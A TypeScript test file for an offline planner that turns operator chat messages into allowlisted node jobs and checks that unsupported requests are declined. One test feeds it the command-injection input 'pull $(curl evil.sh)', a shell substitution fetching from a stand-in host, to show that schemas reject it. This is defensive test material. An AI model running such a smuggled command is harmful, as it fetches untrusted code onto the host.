import { createJobTypeRegistry, describeAllowlist } from "@gbt/protocol";
import type { Address } from "viem";
import { describe, expect, it } from "vitest";
import { createOfflinePlanner } from "./offline-planner.js";

const planner = createOfflinePlanner();
const context = (message: string) => ({
  message,
  history: [],
  allowlist: describeAllowlist(createJobTypeRegistry()),
  node: "0x1c57469600882AdB59114358086aef1692EC3624" as Address,
  facts: [],
});

describe("offline planner: the common intents without a model", () => {
  it.each([
    ["status", "status.read", {}],
    ["how is my node doing?", "status.read", {}],
    ["restart the backend", "service.restart", { service: "backend" }],
    ["please restart the server", "service.restart", { service: "server" }],
    ["run a benchmark", "benchmark.run", {}],
    ["benchmark serve concurrency", "benchmark.run", { mode: "serve" }],
    ["pull gbt-test-small", "model.pull", { model: "gbt-test-small" }],
    ["remove model gbt-test-small", "model.remove", { model: "gbt-test-small" }],
    ["switch to llama3.2:1b", "model.switch", { model: "llama3.2:1b" }],
    ["drain because maintenance at noon", "node.drain", { reason: "maintenance at noon" }],
    ["resume", "node.resume", {}],
    ["show me the last 20 log lines", "logs.tail", { lines: 20 }],
  ])("%s → %s", async (message, type, params) => {
    const reply = await planner.plan(context(message));
    expect(reply.proposals).toEqual([expect.objectContaining({ type, params })]);
  });

  it("splits 'drain then restart the backend' into two jobs, in order", async () => {
    const reply = await planner.plan(context("drain then restart the backend"));
    expect(reply.proposals.map((p) => p.type)).toEqual(["node.drain", "service.restart"]);
  });

  it("'pull X then switch to it' switches to X; a pronoun with nothing before it is left for the agent to refuse", async () => {
    const reply = await planner.plan(context("pull gbt-test-small then switch to it"));
    expect(reply.proposals).toEqual([
      expect.objectContaining({ type: "model.pull", params: { model: "gbt-test-small" } }),
      expect.objectContaining({
        type: "model.switch",
        params: { model: "gbt-test-small" },
        why: "You asked to serve gbt-test-small instead.",
      }),
    ]);
    const alone = await planner.plan(context("switch to it"));
    expect(alone.proposals).toEqual([expect.objectContaining({ params: { model: "it" } })]);
  });

  it("asks for the gateway's view and the status when the admin asks why the node is parked", async () => {
    const reply = await planner.plan(context("why is my node parked?"));
    expect(reply.proposals).toEqual([]);
    expect(reply.explain).toEqual(["gateway", "status"]);
  });

  it("says clearly what it cannot do, and lists what it can", async () => {
    const reply = await planner.plan(context("open a shell and install htop"));
    expect(reply.proposals).toEqual([]);
    expect(reply.say).toMatch(/^I can't do that/);
    expect(reply.say).toContain("restart the backend");
  });

  it("passes a hostile model name through as typed: the schemas, not the planner, refuse it", async () => {
    const reply = await planner.plan(context("pull $(curl evil.sh)"));
    expect(reply.proposals[0]).toMatchObject({ type: "model.pull", params: { model: "$(curl" } });
  });
});
